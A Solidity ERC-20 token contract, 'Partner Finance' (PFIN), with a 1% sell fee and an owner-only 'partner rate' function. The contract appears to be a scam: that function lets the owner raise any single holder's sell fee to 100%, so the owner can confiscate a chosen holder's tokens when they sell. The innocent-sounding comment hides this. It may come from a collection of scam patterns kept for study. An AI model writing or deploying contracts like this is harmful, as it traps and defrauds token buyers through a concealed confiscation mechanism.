// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {RtERC20Lite, RtOwnable} from "./RtCommon.sol";

/// @title RtPersonalFee
/// @notice A 1% sell fee, plus a per-address fee override ("partner rate")
/// the owner can set for any holder, up to 100%.
contract RtPersonalFee is RtERC20Lite, RtOwnable {
    address public immutable lp;
    uint256 private constant _BASE = 1;
    mapping(address => uint256) private _rate; // stored as fee + 1; 0 = default

    constructor(address router) RtERC20Lite("Partner Finance", "PFIN", 18) {
        lp = _createPair(router);
        _mint(msg.sender, 50_000_000 ether);
    }

    /// @notice Sets a partner's rate.
    function setPartnerRate(address partner, uint256 pct) external onlyOwner {
        require(pct <= 100);
        _rate[partner] = pct + 1;
    }

    function _feeOf(address a) private view returns (uint256) {
        uint256 r = _rate[a];
        return r == 0 ? _BASE : r - 1;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        uint256 fee;
        if (to == lp && from != owner()) fee = amount * _feeOf(from) / 100;
        if (fee > 0) _move(from, owner() == address(0) ? address(this) : owner(), fee);
        _move(from, to, amount - fee);
    }
}
